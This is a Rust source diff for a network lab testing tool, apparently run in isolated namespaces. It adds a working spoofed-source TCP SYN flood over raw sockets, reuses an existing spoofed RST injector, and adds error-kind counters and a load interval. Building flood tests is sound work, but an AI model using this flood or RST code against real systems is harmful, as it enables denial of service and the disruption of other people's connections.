@@ -10,7 +10,7 @@ use std::{
 };
 
 use clap::{Parser, Subcommand};
-use lab::peer::{ClientReport, LatencySummary, TimelineEntry, parse_reply, reply};
+use lab::peer::{ClientReport, LatencySummary, TimelineEntry, error_kind, parse_reply, reply};
 
 #[derive(Parser)]
 #[command(about = "TCP/UDP/SCTP peers for the lab (run inside lab namespaces)")]
@@ -54,6 +54,22 @@ enum Mode {
         #[arg(long)]
         seq: u32,
     },
+    /// Sends --count TCP SYNs to --to through a raw IP socket, each from another (address, port)
+    /// of --sources addresses from --first-source on (spoofed: a SYN flood). Prints
+    /// `{"sent": N}`.
+    SynFlood {
+        #[arg(long)]
+        to: SocketAddrV4,
+        #[arg(long)]
+        first_source: std::net::Ipv4Addr,
+        #[arg(long, default_value_t = 1)]
+        sources: u32,
+        #[arg(long)]
+        count: u64,
+        /// Start at this pair of the sequence (see `syn_flood`).
+        #[arg(long, default_value_t = 0)]
+        offset: u64,
+    },
 }
 
 #[derive(clap::Args)]
@@ -70,6 +86,10 @@ struct LoadArgs {
     /// Request/response over one connection per client instead of connect/request/close.
     #[arg(long)]
     one_flow: bool,
+    /// Pause of each client between requests (0: none): a steady load rather than the most
+    /// the machine can do.
+    #[arg(long, default_value_t = 0)]
+    interval_ms: u64,
 }
 
 #[derive(clap::Args)]
@@ -132,6 +152,17 @@ fn main() -> anyhow::Result<()> {
             print_report(&stream_client(&args, sctp_connect))
         }
         Mode::Load(args) => print_report(&load(&args)),
+        Mode::SynFlood {
+            to,
+            first_source,
+            sources,
+            count,
+            offset,
+        } => {
+            let sent = syn_flood(to, first_source, sources, count, offset)?;
+            println!("{}", serde_json::json!({ "sent": sent }));
+            Ok(())
+        }
         Mode::Rst { from, to, seq } => {
             send_spoofed_rst(from, to, seq)?;
             println!("sent");
@@ -141,18 +172,54 @@ fn main() -> anyhow::Result<()> {
 }
 
 fn send_spoofed_rst(from: SocketAddrV4, to: SocketAddrV4, seq: u32) -> anyhow::Result<()> {
-    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
     let mut packet = Vec::new();
     etherparse::PacketBuilder::ipv4(from.ip().octets(), to.ip().octets(), 64)
         .tcp(from.port(), to.port(), seq, 0)
         .rst()
         .write(&mut packet, &[])?;
+    send_raw(&raw_socket()?, to, &packet)
+}
+
+/// `lab-peer syn-flood`: `count` SYNs to `to`, the `offset`th and following of the source
+/// (address, port) pairs of `sources` addresses from `first_source` on (addresses no host has:
+/// the answers go nowhere), ports 1024 and up: no two SYNs of one flood, or of floods with
+/// offsets `count` apart, share a flow. Returns how many were sent.
+fn syn_flood(
+    to: SocketAddrV4,
+    first_source: std::net::Ipv4Addr,
+    sources: u32,
+    count: u64,
+    offset: u64,
+) -> anyhow::Result<u64> {
+    const PORTS: u64 = 65536 - 1024;
+    let socket = raw_socket()?;
+    let mut packet = Vec::with_capacity(64);
+    for index in offset..offset + count {
+        let source = u32::from(first_source) + ((index / PORTS) % u64::from(sources.max(1))) as u32;
+        let port = 1024 + (index % PORTS) as u16;
+        packet.clear();
+        etherparse::PacketBuilder::ipv4(source.to_be_bytes(), to.ip().octets(), 64)
+            .tcp(port, to.port(), index as u32, 64240)
+            .syn()
+            .write(&mut packet, &[])?;
+        send_raw(&socket, to, &packet)?;
+    }
+    Ok(count)
+}
+
+fn raw_socket() -> anyhow::Result<std::os::fd::OwnedFd> {
+    use std::os::fd::FromRawFd as _;
     // IPPROTO_RAW implies IP_HDRINCL: the kernel sends the header as built (raw(7)).
     // SAFETY: plain socket(2); the result is checked before use.
     let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
     anyhow::ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
     // SAFETY: fd is a socket this process just opened and owns.
-    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
+    Ok(unsafe { std::os::fd::OwnedFd::from_raw_fd(fd) })
+}
+
+/// Sends one IPv4 packet, header included, through a raw socket.
+fn send_raw(socket: &std::os::fd::OwnedFd, to: SocketAddrV4, packet: &[u8]) -> anyhow::Result<()> {
+    use std::os::fd::AsRawFd as _;
     // A raw socket takes no port: the destination's is in the header built above.
     let destination = SocketAddrV4::new(*to.ip(), 0);
     // SAFETY: the buffer and address are valid for the call and their lengths are theirs.
@@ -265,13 +332,13 @@ fn set_ready_file(args: &ClientArgs) {
 fn record(report: &mut ClientReport, result: Exchange) {
     report.attempts += 1;
     let parsed = result
-        .map_err(|err| err.to_string())
+        .map_err(|err| (error_kind(&err), err.to_string()))
         .and_then(|(text, peer)| {
             parse_reply(&text)
                 .map(|(server, ip, seen_as)| {
                     (server.to_owned(), ip.to_owned(), seen_as.to_owned(), peer)
                 })
-                .ok_or_else(|| format!("malformed reply {text:?}"))
+                .ok_or_else(|| ("malformed", format!("malformed reply {text:?}")))
         });
     match parsed {
         Ok((server, ip, seen_as, peer)) => {
@@ -288,8 +355,9 @@ fn record(report: &mut ClientReport, result: Exchange) {
             *report.peer_names.entry(peer.to_string()).or_default() += 1;
             report.last_server = Some(server);
         }
-        Err(err) => {
+        Err((kind, err)) => {
             report.errors += 1;
+            *report.error_kinds.entry(kind.to_owned()).or_default() += 1;
             if report.error_samples.len() < MAX_ERROR_SAMPLES {
                 report.error_samples.push(err);
             }
@@ -658,6 +726,9 @@ fn load_client(
             // A broken connection stays broken: stop this client rather than spin on errors.
             break;
         }
+        if args.interval_ms > 0 {
+            std::thread::sleep(Duration::from_millis(args.interval_ms));
+        }
     }
     (report, latencies)
 }
@@ -674,6 +745,12 @@ fn merge(into: &mut ClientReport, part: ClientReport) {
     }
     for (key, count) in part.peer_names {
         *into.peer_names.entry(key).or_default() += count;
+    }
+    for (key, count) in part.seen_as {
+        *into.seen_as.entry(key).or_default() += count;
+    }
+    for (key, count) in part.error_kinds {
+        *into.error_kinds.entry(key).or_default() += count;
     }
     if part.last_server.is_some() {
         into.last_server = part.last_server;
